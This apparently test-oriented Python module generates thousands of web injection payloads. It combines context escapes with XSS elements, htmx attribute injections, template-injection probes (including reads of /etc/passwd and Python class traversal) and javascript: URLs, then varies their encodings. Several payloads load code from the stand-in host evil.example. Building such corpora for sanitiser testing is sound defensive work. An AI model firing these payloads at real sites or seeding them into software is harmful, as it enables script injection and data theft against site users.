"""Makes injections by the thousand: ways out of where text stands, times what runs, times how it is spelt."""

import random
from collections.abc import Callable, Iterator
from itertools import product

MARK = "floetest"
"""A word in many of them, so that a search finds the pages they are on."""

RUNS = "hit()"
SHORT = 40
"""Characters: what the smallest free text of the demo takes."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "</select>",
    "</template>",
    '"/>',
    '\\">',
    "\\'",
    "*/",
    "${",
    "%>",
    "</dd></dl>",
    "&quot;>",
    '"\n>',
    "</svg>",
    "</math>",
)

ELEMENTS = (
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<script>{}</script>",
    "<script>{}//",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src onerror={}>",
    "<video><source onerror={}>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>go</a>",
    "<form action=javascript:{}><button>go",
    "<button formaction=javascript:{}>go",
    "<isindex action=javascript:{} type=submit>",
    "<math href=javascript:{}>go",
    "<math><mtext><img src=x onerror={}>",
    "<math><a xlink:href=javascript:{}>go",
    "<svg><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:{} />",
    "<svg><use href=data:image/svg+xml,{}>",
    "<svg><foreignObject><img src=x onerror={}>",
    "<style onload={}></style>",
    "<style>@import'//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<table background=javascript:{}>",
    "<p style=x:expression({})>",
    "<div style=background:url(//evil.example/{})>",
    "<img src=//evil.example/{}>",
    "<img srcset=//evil.example/{}>",
    "<script src=//evil.example/{}></script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<template><img src=x onerror={}></template>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml-stylesheet href=javascript:{}?>",
    "<dialog open oncancel={}>",
    "<div popover onbeforetoggle={}>",
    "<p onclick={} id=x>",
    "<x tabindex=1 onfocusin={} autofocus>",
    "<image src=x onerror={}>",
    "<h1 onpointerenter={}>x",
    "<portal src=javascript:{}>",
)

ATTRIBUTES = (
    " onfocus={} autofocus x=",
    " onmouseover={} ",
    " onerror={} src=x ",
    " style=animation-name:x onanimationstart={} ",
    " formaction=javascript:{} ",
    " href=javascript:{} ",
    " accesskey=x onclick={} ",
    " oncontentvisibilityautostatechange={} ",
)

HTMX = (
    "<p hx-get=//evil.example hx-trigger=load>",
    "<p data-hx-get=//evil.example data-hx-trigger=load>",
    "<p hx-post=/live/forms/parrot hx-trigger=load>",
    "<p hx-on::load={}>",
    "<p hx-on:htmx:load={}>",
    "<p data-hx-on:click={}>",
    "<p hx-vals='js:{}' hx-get=/ hx-trigger=load>",
    "<p hx-trigger='load[{}]' hx-get=/>",
    "<hx-partial hx-target=body>{}</hx-partial>",
    "<p hx-swap-oob=true id=main>{}",
    "<p hx-boost=true><a href=//evil.example>{}",
    "<p hx-action=//evil.example hx-trigger=load>",
    "<p hx-headers='js:{}' hx-get=/ hx-trigger=load>",
    "<template hx type=partial hx-target=body>{}</template>",
    "<p HX-GET=//evil.example HX-TRIGGER=load>",
    "<p hx-confirm={} hx-delete=/ hx-trigger=load>",
    "<p hx-include=* hx-get=//evil.example/{}>",
    '" hx-get=//evil.example hx-trigger=load x="',
    "' data-hx-get=//evil.example data-hx-trigger=load x='",
    '" hx-on:click={} x="',
)

TEMPLATES = (
    "{{{{7*7}}}}",
    "{{{{config}}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{''.__class__.__mro__}}}}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[{}]]",
    "{{{{ [].pop.constructor('{}')() }}}}",
    "{{{{request.environ}}}}",
    "{{author}}",
    "{{number}}",
    "%s%s%n",
    "{{0.__class__}}",
    "@{{{}}}",
    "*{{{}}}",
    "<esi:include src=//evil.example/{} />",
    "<!--#exec cmd={} -->",
)

ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "//evil.example/{}",
    "https:javascript:{}",
    "javascript://example.org/%0a{}",
    "blob:{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    'https://example.org/"onmouseover={}',
    "https://example.org/'><svg/onload={}>",
    "https://example.org/?{{{{7*7}}}}",
    "https://example.org/#<script>{}</script>",
    "https://a:b@example.org/{}",
    "http://[::1]/'{}'",
)


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" if sign in "<>\"'" else sign for sign in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(sign):02x}" if sign in "<>\"'" else sign for sign in text)


_WIDE = str.maketrans({"<": "\uff1c", ">": "\uff1e", '"': "\uff02", "'": "\uff07"})

SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.swapcase().replace("HIT()", RUNS),
    _entities,
    lambda text: _entities(_entities(text)),
    _percent,
    lambda text: text.translate(_WIDE),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\f"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("on", "o\u200bn"),
    lambda text: text.replace("=", "\x0b="),
    lambda text: "\u202e" + text,
    lambda text: "\ufeff" + text,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("s", "\u017f"),  # becomes an S in capitals
    lambda text: text.replace("<", "\u00bc").replace(">", "\u00be"),  # what UTF-7 and old encodings made of them
    lambda text: text.replace("<", "<<").replace(">", ">>"),
    lambda text: f"{text}<!--",
    lambda text: f"{text} {MARK}",
)


def vectors(count: int, *, longest: int | None = None) -> list[str]:
    """List so many different injections, the same ones each time. longest: characters."""
    chosen = sorted({one for one in _all() if longest is None or len(one) <= longest})
    random.Random(4).shuffle(chosen)
    assert len(chosen) >= count, f"only {len(chosen)} injections are made"
    return chosen[:count]


def addresses() -> list[str]:
    """List what is typed where an address of a page is asked for."""
    return [spelt(one.format(RUNS)) for one, spelt in product(ADDRESSES, SPELLINGS)]


def _all() -> Iterator[str]:
    for element, way_out, spelt in product((*ELEMENTS, *ATTRIBUTES, *HTMX), WAYS_OUT, SPELLINGS):
        yield spelt(way_out + element.format(RUNS))
    for one, spelt in product((*TEMPLATES, *ADDRESSES), SPELLINGS):
        yield spelt(one.format(RUNS))
